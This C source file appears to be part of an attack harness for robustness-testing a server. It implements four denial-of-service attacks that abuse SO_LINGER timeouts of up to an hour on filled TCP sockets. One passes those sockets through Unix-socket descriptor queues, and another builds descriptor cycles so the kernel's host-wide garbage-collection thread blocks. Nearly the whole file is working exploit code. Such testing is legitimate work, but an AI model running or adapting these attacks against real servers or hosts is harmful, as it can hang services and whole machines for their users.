/* Sockets whose close waits for long. The server or the kernel closes the last descriptor, and then waits. */
#include "attack.h"

#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/mman.h>

static long seconds = 3600;

/* Returns whether closing the socket waits. Setting the option succeeds, but has no effect unless the time is 0. */
static int still_lingers(int one)
{
    struct linger linger = {0};
    socklen_t length = sizeof linger;
    return !getsockopt(one, SOL_SOCKET, SO_LINGER, &linger, &length) && linger.l_onoff && linger.l_linger > 0;
}

/* Fills a socket whose peer does not read until no byte fits, so that a close waits. */
static void fill_and_linger(int one)
{
    static char text[65536];
    static int is_told;
    struct linger linger = {1, seconds};
    setsockopt(one, SOL_SOCKET, SO_LINGER, &linger, sizeof linger);
    if (!is_told++)
        must_fail(still_lingers(one) - 1, "a linger of %ld seconds", seconds);
    while (send(one, text, sizeof text, MSG_DONTWAIT | MSG_NOSIGNAL) > 0)
        ;
}

static void interrupted(int signal)
{
    (void)signal;
}

/* If another process closes the socket last, that process waits, until a signal comes. */
static volatile int to_close = -1;
static volatile long delay;

static void *close_when_set(void *nothing)
{
    (void)nothing;
    for (;;) {
        int one = to_close;
        if (one < 0)
            continue;
        for (volatile long i = delay; i > 0; i--)
            ;
        close(one);
        __atomic_store_n(&to_close, -1, __ATOMIC_SEQ_CST);
    }
    return NULL;
}

/* Holds this process's memory, so that a reader of it waits. The server reads it to get an address. */
static void *hold_memory(void *nothing)
{
    (void)nothing;
    long bytes = 48 << 20;
    char *all = mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
    for (;;) {
        mprotect(all, bytes, PROT_READ);
        mprotect(all, bytes, PROT_READ | PROT_WRITE);
        for (long i = 0; i < bytes; i += 4096)
            all[i] = 1;
    }
    return NULL;
}

/* Connects a socket, and closes it while the server uses it. */
static void close_while_in_use(int one, const void *address, socklen_t length, long round)
{
    static pthread_t closer;
    if (!closer) {
        struct sigaction action = {.sa_handler = interrupted};
        sigaction(SIGUSR1, &action, NULL);
        closer = thread(close_when_set, NULL);
        thread(hold_memory, NULL);
    }
    delay = round * 7 % 200 * 8000;
    __atomic_store_n(&to_close, one, __ATOMIC_SEQ_CST);
    connect(one, address, length);
    for (int i = 0; to_close >= 0; i++) {
        pause_ms(1);
        pthread_kill(closer, SIGUSR1);
    }
}

static const struct sockaddr_in closed_port = {.sin_family = AF_INET, .sin_port = 0x900, .sin_addr.s_addr = 0x100007f};
static const struct sockaddr_un nowhere = {.sun_family = AF_UNIX, .sun_path = "/tmp/nobody"};

/* A socket that is closed while the server uses it. */
static void close_in_use(char **arguments)
{
    seconds = number(arguments, 0, 3600);
    for (long round = 0; round < 600; round++) {
        int pair[2];
        tcp_pair(pair);
        fill_and_linger(pair[0]);
        close_while_in_use(pair[0], &closed_port, sizeof closed_port, round);
        if (round == 100)
            ready();
    }
    hold();
}

/* The socket that the server uses has messages with such sockets in its queue. They are closed together with it. */
static void close_nested(char **arguments)
{
    seconds = number(arguments, 0, 3600);
    for (long round = 0; round < 600; round++) {
        int pair[2], queue[2];
        tcp_pair(pair);
        fill_and_linger(pair[0]);
        if (socketpair(AF_UNIX, SOCK_DGRAM, 0, queue))
            break;
        send_descriptors(queue[0], &pair[0], 1);
        close(pair[0]);
        close(queue[0]);
        close_while_in_use(queue[1], &nowhere, sizeof nowhere, round);
        if (round == 100)
            ready();
    }
    hold();
}

static struct sockaddr_in full;

static void *connect_it(void *number)
{
    connect((int)(long)number, (struct sockaddr *)&full, sizeof full);
    return NULL;
}

static int is_established(int one)
{
    struct tcp_info info = {0};
    socklen_t length = sizeof info;
    return !getsockopt(one, IPPROTO_TCP, TCP_INFO, &info, &length) && info.tcpi_state == TCP_ESTABLISHED;
}

/* A connection waits in the server until its peer has room. Then it is filled and closed at once. */
static void close_connecting(char **arguments)
{
    seconds = number(arguments, 0, 3600);
    int listener = tcp_listener(0, &full), small = 1, all[8], filler[3];
    setsockopt(listener, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
    for (int i = 0; i < 3; i++) {
        filler[i] = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
        connect(filler[i], (struct sockaddr *)&full, sizeof full);
    }
    for (int i = 0; i < 8; i++) {
        all[i] = socket(AF_INET, SOCK_STREAM, 0);
        thread(connect_it, (void *)(long)all[i]);
    }
    pause_ms(200);
    listen(listener, 64);
    for (int i = 0, left = 8; left; i = (i + 1) % 8)
        if (all[i] >= 0 && is_established(all[i])) {
            /* More than the peer takes, and less than fits, so the server sees a writable socket. */
            static char text[4096];
            setsockopt(all[i], SOL_SOCKET, SO_LINGER, &(struct linger){1, seconds}, sizeof(struct linger));
            send(all[i], text, sizeof text, MSG_DONTWAIT | MSG_NOSIGNAL);
            close(all[i]);
            all[i] = -1;
            if (--left == 4)
                ready();
        }
    hold();
}

/* Sockets that keep each other in flight are closed by a kernel thread that works for the whole host. Both ends are
 * closed, and the first one waits for the second one, which is closed after it. */
static void cycle(char **arguments)
{
    seconds = number(arguments, 0, 2);
    for (int i = 0; i < 8; i++) {
        int pair[2], ring[2];
        tcp_pair(pair);
        fill_and_linger(pair[0]);
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, ring))
            break;
        int all[] = {ring[0], ring[1], pair[0], pair[1], 1, 2};
        send_descriptors(ring[0], all, 6);
        for (int k = 0; k < 4; k++)
            close(all[k]);
    }
    /* The kernel searches for such cycles when another local socket is closed. */
    int last[2];
    if (!socketpair(AF_UNIX, SOCK_STREAM, 0, last)) {
        close(last[0]);
        close(last[1]);
    }
    ready();
    hold();
}

const struct named linger_attacks[] = {
    {"linger-in-use", close_in_use},
    {"linger-connecting", close_connecting},
    {"linger-nested", close_nested},
    {"linger-cycle", cycle},
    {NULL, NULL},
};
